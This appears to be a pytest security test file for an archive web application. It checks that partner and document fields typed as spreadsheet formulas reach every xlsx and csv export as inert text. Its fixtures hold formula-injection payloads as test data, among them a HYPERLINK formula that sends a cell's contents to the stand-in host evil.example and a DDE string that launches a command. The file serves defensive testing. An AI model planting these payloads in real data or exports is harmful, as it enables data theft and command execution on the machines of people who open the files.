"""Finding 1: text typed as a formula reaches every export as text, never as a live formula."""

from __future__ import annotations

import io

import openpyxl
import pytest

from archive.exports import Heading, Table, csv_bytes, neutralize, xlsx_bytes
from tests.samples import text_pdf
from tests.security.conftest import web_sign_in
from tests.security.spreadsheets import cells, live_formulas

# What an attacker types where a partner or a document is described.
HOSTILE_PARTNER = {
    "name": '=HYPERLINK("http://evil.example/?d="&C5,"点击查看明细")',
    "legal_representative": "+SUM(1,2)",
    "contact_person": "-2+3",
    "phone": "＝1+1",
    "cooperation": "@SUM(A1:A9)",
    "remarks": "\t=1+1",
}
HOSTILE_TITLE = "=cmd|' /C calc'!A0"


def test_cells_that_could_start_a_formula_are_prefixed_and_nothing_else_changes() -> None:
    for dangerous in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "＝1", " =1", "\u3000@x"):
        assert neutralize(dangerous) == "'" + dangerous
    for harmless in ("福建省闽江供应链", "0591-87654321", "A=1", "'=already", ""):
        assert neutralize(harmless) == harmless
    assert neutralize(None) == "" and neutralize(3) == 3 and neutralize(2.5) == 2.5


def test_xlsx_text_cells_are_strings_never_formulas() -> None:
    table = Table(columns=["题名"], rows=[["=1+1"], ["正常"], [7]],
                  heading=Heading(title="=标题", department="-部门", made_on=__import__("datetime").date(2026, 7, 1)))
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table)))
    kinds = {cell.value: cell.data_type for row in workbook.active.iter_rows() for cell in row if cell.value}
    assert kinds["'=1+1"] == "s" and kinds["'=标题"] == "s" and kinds["'-部门"] == "s" and kinds[7] == "n"
    assert not live_formulas("text/csv", csv_bytes(table))


@pytest.fixture
def hostile_archive(tmp_path, client, upload, run_worker, make_caller, create_partner):  # type: ignore[no-untyped-def]
    """A partner described with formulas and an expiring document whose title is one."""
    partner = create_partner(department="采购部", kind="supplier", **HOSTILE_PARTNER)
    office = make_caller("archive.office", roles="archivist", clearance="confidential")
    pdf = text_pdf(tmp_path / "contract.pdf", ["采购合同\n甲方：福建省闽江供应链管理有限公司"])
    response = upload(office, pdf, partner_id=partner["id"], title=HOSTILE_TITLE, expires_on="2026-08-01")
    assert response.status_code == 202, response.text
    assert run_worker() == 1
    return partner


def test_hostile_cells_reach_every_export_as_text(client, settings, make_caller, hostile_archive) -> None:
    office = make_caller("archive.office", roles="archivist", clearance="confidential")
    exports = {
        f"{path} {params}": client.get(path, params=params, headers=office.headers)
        for path, params in (
            ("/api/v1/reports/partners", {"format": "xlsx"}),
            ("/api/v1/reports/partners", {"format": "csv"}),
            ("/api/v1/catalogue", {"format": "xlsx"}),
            ("/api/v1/catalogue", {"format": "csv"}),
            ("/api/v1/reports/annual-review", {"format": "xlsx", "year": 2026}),
        )
    }
    web_sign_in(client, "he.jing", roles="compliance", clearance="confidential")
    exports["/compliance/expiring.csv"] = client.get("/compliance/expiring.csv", params={"within_days": 3650})
    client.cookies.clear()
    for name, response in exports.items():
        assert response.status_code == 200, (name, response.text)
        found = live_formulas(response.headers["content-type"], response.content)
        assert found == [], f"{name} carries live formulas: {found}"
        values = {str(value) for _, value, _ in cells(response.headers["content-type"], response.content)}
        # The text is all there, shown as typed behind the apostrophe.
        expected = {HOSTILE_TITLE} if "reports/partners" not in name else set(HOSTILE_PARTNER.values())
        if name.startswith("/api/v1/reports/annual-review"):
            expected = {HOSTILE_TITLE, HOSTILE_PARTNER["name"]}
        assert {"'" + text for text in expected} <= values, name

    # The record keeps what was typed.
    stored = client.get(f"/api/v1/partners/{hostile_archive['id']}", headers=office.headers).json()
    assert {key: stored[key] for key in HOSTILE_PARTNER} == HOSTILE_PARTNER
